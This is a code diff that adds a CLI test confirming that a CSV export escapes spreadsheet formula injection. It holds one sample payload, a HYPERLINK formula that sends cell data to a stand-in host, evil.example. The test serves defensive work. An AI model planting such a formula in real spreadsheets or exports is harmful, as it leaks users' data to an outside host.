@@ -1512,3 +1512,19 @@ def _(root):
     (root / "k" / "text").write_text("u1 hello\n")
     expect_user_error(cli("corpus", "import", "kaldi", "k", cwd=root, timeout_s=QUICK_S), "wav.scp", "twice", line=2)
     assert not (root / "k" / "manifest.jsonl").exists()
+
+
+@case("injection", "export: a model named '=HYPERLINK(...)' reaches the CSV as a formula")
+def _(root):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    plan = lab(root, model=formula, runs=1)
+    assert cli("run", str(plan), "--db", "h.db", "-q", cwd=root).returncode == 0
+    run_id = sqlite3.connect(root / "h.db").execute("SELECT run_id FROM runs").fetchone()[0]
+    proc = cli("export", run_id, "--db", "h.db", "-o", "x.csv", cwd=root)
+    assert proc.returncode == 0, proc.stderr[-800:]
+    rows = list(csv.DictReader(open(root / "x.csv", newline="")))
+    assert rows and all(r["model"] == "'" + formula for r in rows), rows[0]["model"]
+    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values()), "a cell still starts a formula"
+    assert float(rows[0]["latency_ms"]) >= 0, "numbers must stay numbers"
